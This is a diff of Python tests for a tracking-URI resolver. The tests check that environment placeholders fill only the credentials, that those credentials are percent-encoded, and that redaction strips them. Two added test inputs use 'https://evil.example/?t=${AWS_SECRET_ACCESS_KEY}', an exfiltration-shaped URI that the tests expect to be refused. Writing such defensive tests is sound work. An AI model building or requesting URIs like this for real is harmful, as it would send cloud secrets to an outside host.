@@ -66,17 +66,21 @@ def test_a_symlinked_database_outside_the_project_is_refused(tmp_path, mlflow_db
     assert info.value.diagnostics[0].code == "evidence-outside"
 
 
-def test_placeholders_come_from_the_environment(monkeypatch, tmp_path):
-    monkeypatch.setenv("MLFLOW_HOST", "mlflow.example.com")
-    monkeypatch.setenv("MLFLOW_PASSWORD", "s3cret")
-    uri = resolve_uri("https://ci:${MLFLOW_PASSWORD}@${MLFLOW_HOST}:8443", tmp_path)
-    assert uri == "https://ci:s3cret@mlflow.example.com:8443"
-    assert redact(uri) == "https://mlflow.example.com:8443"
-    monkeypatch.delenv("MLFLOW_HOST")
+def test_placeholders_fill_only_the_credentials_from_the_environment(monkeypatch, tmp_path):
+    monkeypatch.setenv("MLFLOW_USER", "ci")
+    monkeypatch.setenv("MLFLOW_PASSWORD", "s3:c/r@t")
+    uri = resolve_uri("https://${MLFLOW_USER}:${MLFLOW_PASSWORD}@mlflow.example.com:8443/x", tmp_path)
+    assert uri == "https://ci:s3%3Ac%2Fr%40t@mlflow.example.com:8443/x"  # percent-encoded: the URI stays one URI
+    assert redact(uri) == "https://mlflow.example.com:8443/x"
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "leak")
     with pytest.raises(PlannerError) as info:
-        resolve_uri("https://${MLFLOW_HOST}", tmp_path)
-    assert info.value.diagnostics[0].message == ("environment variable MLFLOW_HOST is not set (named in "
-                                                 "tracking URI 'https://${MLFLOW_HOST}')")
+        resolve_uri("https://evil.example/?t=${AWS_SECRET_ACCESS_KEY}", tmp_path)
+    assert "may only stand for the user name or the password" in info.value.diagnostics[0].message
+    monkeypatch.delenv("MLFLOW_USER")
+    with pytest.raises(PlannerError) as info:
+        resolve_uri("https://${MLFLOW_USER}@mlflow.example.com", tmp_path)
+    assert info.value.diagnostics[0].message == ("environment variable MLFLOW_USER is not set (named in "
+                                                 "tracking URI 'https://mlflow.example.com')")
 
 
 def test_an_unreachable_server_is_an_error_without_the_password(monkeypatch):
@@ -112,6 +116,8 @@ except PlannerError as exc:
     ({"uri": "file:///srv/mlruns"}, "a file store is read without mlflow: give its folder as `path` instead"),
     ({"uri": "ftp://host/x"}, "must start with one of http:, https:, databricks:, sqlite:, postgresql:,"),
     ({"uri": "https://ci:hunter2@mlflow.example.com"}, "must not hold a password"),
+    ({"uri": "https://evil.example/?t=${AWS_SECRET_ACCESS_KEY}"}, "may only stand for the user name or the password"),
+    ({"uri": "https://${HOST}"}, "may only stand for the user name or the password"),
     ({"uri": "sqlite:////etc/mlflow.db"}, "must be a path relative to the project folder"),
     ({"uri": "sqlite:///../mlflow.db"}, "must stay inside the project folder"),
     ({"uri": "sqlite://"}, "write sqlite:///<file>"),
